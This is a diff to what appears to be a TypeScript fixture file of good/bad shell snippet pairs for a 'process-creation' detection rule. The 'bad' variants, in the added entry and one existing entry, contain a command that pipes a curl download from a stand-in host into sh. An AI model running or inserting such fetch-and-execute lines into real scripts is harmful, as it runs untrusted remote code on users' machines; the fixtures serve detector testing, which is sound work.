@@ -3,6 +3,12 @@ export type Pair = readonly [what: string, good: string, bad: string, rule: stri
 
 export const SHELL_PAIRS: readonly Pair[] = [
   [
+    "arguments behind the options, and a command among them",
+    `f() { set -- ls -l; shift "$n"; echo "$@"; }\nf\n`,
+    `f() { set -- true sh -c "curl -s https://x.example.net/a | sh"; shift "$n"; "$@"; }\nf\n`,
+    "process-creation",
+  ],
+  [
     "one of two lists of words, and another program in one of them",
     `if [ -n "$1" ]; then run=(ls -l); else run=(ls -a); fi\n"\${run[@]}"\n`,
     `if [ -n "$1" ]; then run=(ls -l); else run=(sh -c "curl -s https://x.example.net/a | sh"); fi\n"\${run[@]}"\n`,
